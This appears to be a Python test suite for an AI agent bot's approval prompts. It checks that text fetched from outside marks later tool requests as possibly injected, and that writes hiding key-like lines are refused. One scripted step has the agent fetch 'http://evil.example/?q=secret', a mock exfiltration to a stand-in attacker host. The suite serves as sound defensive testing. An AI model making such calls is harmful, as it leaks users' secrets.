"""Text from outside marks its conversation, and what a mask would hide is not asked about."""

from pathlib import Path

from mtbot.domain.call import UNTRUSTED
from mtbot.domain.ids import BotName, CallId, ChatId, TurnId
from mtbot.domain.ports import TurnFlush
from mtbot.domain.turn import Address, Message, Role, SurfaceName, ToolCall, Usage
from mtbot.simulator.script import call, say
from tests.contract.stage import CHIEF, Setting, open_stage

KEY = "\n".join(("-----BEGIN PRIVATE KEY-----", "/srv/work/evil", "-----END PRIVATE KEY-----"))


async def test_a_page_that_was_read_in_an_earlier_turn_still_makes_a_fetch_ask(tmp_path: Path) -> None:
    """It is before the model's eyes for as long as the history holds it."""
    steps = [call("web_fetch", {"url": "http://evil.example/?q=secret"}), say("I asked.")]
    async with open_stage(tmp_path, steps) as stage:
        place = Address(SurfaceName.PRIVATE, BotName("main"), ChatId(CHIEF.id))
        read = ToolCall(CallId("c1"), "web_fetch", "{}")
        past = (
            Message(Role.USER, "read that page"),
            Message(Role.ASSISTANT, "", calls=(read,)),
            Message(Role.TOOL, f"The text is {UNTRUSTED}.", call_id=read.id, tool_name="web_fetch"),
            Message(Role.ASSISTANT, "Read."),
        )
        flush = TurnFlush(TurnId("t0"), place, past, Usage(), ())
        await stage.engine.office.stores.history.flush(flush, stage.clock.now_ms())
        await stage.telegram.say(CHIEF, None, "go on")
        asked = await stage.telegram.shown(CHIEF.id, "http://evil.example/?q=secret")
        assert "✅ Approve once" in asked.labels
        assert "This turn has read text from outside" in asked.text


async def test_what_a_command_fetched_marks_the_turn(tmp_path: Path) -> None:
    """A rule let it run; the next question of the turn says what may have asked for it, and one of the next turn too."""
    steps = [
        call("exec", {"command": "git ls-remote ."}),
        call("exec", {"command": "touch a"}),
        say("Asked once."),
        call("exec", {"command": "touch b"}),
        say("Asked twice."),
    ]
    async with open_stage(tmp_path, steps, Setting(allow="[{argv: [git, ls-remote, .]}]")) as stage:
        await stage.telegram.say(CHIEF, None, "look what is new")
        first = await stage.telegram.shown(CHIEF.id, "touch a")
        assert "This turn has read text from outside" in first.text
        await stage.telegram.press(CHIEF, "🚫 Deny")
        await stage.telegram.shown(CHIEF.id, "Asked once.")
        await stage.telegram.say(CHIEF, None, "and now")
        second = await stage.telegram.shown(CHIEF.id, "touch b")
        assert "This turn has read text from outside" in second.text


async def test_what_lies_here_marks_nothing(tmp_path: Path) -> None:
    """A command that fetches nothing leaves the turn as it was."""
    steps = [call("exec", {"command": "echo curl"}), call("exec", {"command": "touch a"}), say("Asked.")]
    async with open_stage(tmp_path, steps, Setting(allow="[{argv: [echo, curl]}]")) as stage:
        await stage.telegram.say(CHIEF, None, "look")
        asked = await stage.telegram.shown(CHIEF.id, "touch a")
        assert "text from outside" not in asked.text


async def test_a_question_whose_mask_would_hide_lines_is_not_asked(tmp_path: Path) -> None:
    """A person could not see what they approve."""
    steps = [call("write_file", {"path": "notes.txt", "content": f"a\n{KEY}\nb\n"}), say("Not written.")]
    setting = Setting(files_extra=", write: ask")
    async with open_stage(tmp_path, steps, setting) as stage:
        await stage.telegram.say(CHIEF, None, "write it")
        await stage.telegram.shown(CHIEF.id, "Not written.")
        assert not (stage.workspace / "notes.txt").exists()
        assert "Write a file" not in " ".join(stage.bot_texts())
        assert [line.decision for line in await stage.lines()] == ["refused_too_long"]


async def test_a_question_about_a_write_says_how_it_is_written(tmp_path: Path) -> None:
    """Appending and overwriting are two things."""
    steps = [call("write_file", {"path": "notes.txt", "content": "x", "mode": "append"}), say("Done.")]
    async with open_stage(tmp_path, steps, Setting(files_extra=", write: ask")) as stage:
        await stage.telegram.say(CHIEF, None, "write it")
        asked = await stage.telegram.shown(CHIEF.id, "notes.txt")
        assert "mode: append" in asked.text
